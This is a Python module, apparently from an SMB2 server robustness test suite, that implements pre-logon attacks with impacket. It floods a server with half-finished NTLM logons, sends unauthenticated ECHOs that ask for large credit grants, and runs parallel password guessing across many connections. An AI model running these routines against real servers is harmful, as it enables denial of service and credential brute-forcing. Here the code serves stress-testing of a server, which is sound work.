"""Attacks from before a logon: halves of logons, ECHOs, guessed passwords. See attacks_memory.py for
how an attack is written."""
import collections
import contextlib
import select
import time

from impacket import ntlm

import smb2_raw as raw
from peer import Refused

HALF_LOGONS_MAX = 32


def half_logons(target, connections=100, each=HALF_LOGONS_MAX):
    """Connections with logons that stop at the challenge."""
    blob = ntlm.getNTLMSSPType1("", "", False, use_ntlmv2=True).getData()
    with contextlib.ExitStack() as stack:
        seen = collections.Counter()
        for _ in range(connections):
            try:
                peer = stack.enter_context(target.connect())
            except (Refused, OSError):
                seen["no connection"] += 1
                continue
            for _ in range(each):
                try:
                    answer = peer.call(raw.SESSION_SETUP, raw.session_setup(blob), session=0)
                except OSError:
                    answer = None
                seen[answer.status if answer else raw.DISCONNECTED] += 1
                if answer is None:
                    break
        while True:
            yield dict(seen)
            time.sleep(0.2)


def early_echoes(target, wanted=8192, rounds=64):
    """ECHOs without a logon that ask for credits; the most that were held at once."""
    with target.connect() as peer:
        most = peer.granted
        hung_up = False
        for _ in range(rounds):
            answer = peer.call(raw.ECHO, raw.plain(), credits=wanted)
            if answer is None:
                hung_up = True
                break
            most = max(most, peer.granted)
            if most >= wanted:
                break
        while True:
            yield {"credits": most, "hung up": hung_up}
            time.sleep(0.2)


class Guesses:
    """Passwords that are tried together: challenges that were got, and wait for their answers."""

    def __init__(self, target):
        self._target = target
        self._first = ntlm.getNTLMSSPType1("", "", False, use_ntlmv2=True)
        self._waiting = []  # (peer, session, challenge)

    def get_challenge(self, peer):
        """False where the server gives none."""
        answer = peer.call(raw.SESSION_SETUP, raw.session_setup(self._first.getData()), session=0)
        if answer is None or answer.status != "MORE_PROCESSING_REQUIRED":
            return False
        self._waiting.append((peer, answer.session, answer.body[8:]))
        return True

    def send_all(self, last_is_right):
        """All at once, or as near to that as it gets. Who guesses right is told so as soon as it is
        judged, however long the answers to wrong guesses are held back."""
        messages = []
        for number, (peer, session, challenge) in enumerate(self._waiting, 1):
            is_right = last_is_right and number == len(self._waiting)
            last, _ = ntlm.getNTLMSSPType3(self._first, challenge, self._target.user,
                                           self._target.password if is_right
                                           else f"wrong-{number}", "", use_ntlmv2=True)
            messages.append((peer, raw.frame(peer.message(
                raw.SESSION_SETUP, raw.session_setup(last.getData()), session=session))))
        self._waiting = []
        for peer, message in messages:
            with contextlib.suppress(OSError):
                peer.send_bytes(message)


def _take_answers(peers, wanted, end, judged):
    """Counts statuses as they come, until `wanted` are there or it is time."""
    open_peers = {peer.socket: peer for peer in peers}
    while sum(judged.values()) < wanted and open_peers and (left := end - time.monotonic()) > 0:
        for sock in select.select(list(open_peers), [], [], left)[0]:
            peer = open_peers[sock]
            try:
                alive = peer.read_frame()
            except OSError:
                alive = False
            if not alive:
                del open_peers[sock]
                judged[raw.DISCONNECTED] += 1
            for answer in peer.answers.values():
                judged[answer.status] += 1
            peer.answers.clear()


def passwords(target, connections=128, seconds=10.0):
    """Passwords over many connections, one each, all under way at once; what was answered within so
    many seconds."""
    while True:
        judged = collections.Counter()
        end = time.monotonic() + seconds
        with contextlib.ExitStack() as stack:
            guesses = Guesses(target)
            peers = []
            for _ in range(connections):
                try:
                    peer = stack.enter_context(target.connect())
                    if guesses.get_challenge(peer):
                        peers.append(peer)
                except (Refused, OSError):
                    pass
            guesses.send_all(last_is_right=True)
            _take_answers(peers, len(peers), end, judged)
            yield {"tried": len(peers)} | judged


def parallel_passwords(target, count=HALF_LOGONS_MAX, seconds=10.0):
    """Passwords over one connection, as many under way at once as it has credits for; what was
    answered within so many seconds."""
    while True:
        judged = collections.Counter()
        end = time.monotonic() + seconds
        tried = 0
        try:
            with target.connect(limit=seconds) as peer:
                peer.want_credits(count)
                while tried < count and time.monotonic() < end:
                    guesses = Guesses(target)
                    at_once = min(peer.granted, count - tried)
                    if at_once < 1 or not all(guesses.get_challenge(peer) for _ in range(at_once)):
                        break
                    tried += at_once
                    guesses.send_all(last_is_right=tried == count)
                    _take_answers([peer], tried, end, judged)
        except (Refused, OSError):
            pass  # told by the number that was judged
        yield {"tried": tried} | judged


ATTACKS = {
    "half_logons": (7, half_logons),
    "early_echoes": (7, early_echoes),
    "passwords": (7, passwords),
    "parallel_passwords": (7, parallel_passwords),
}
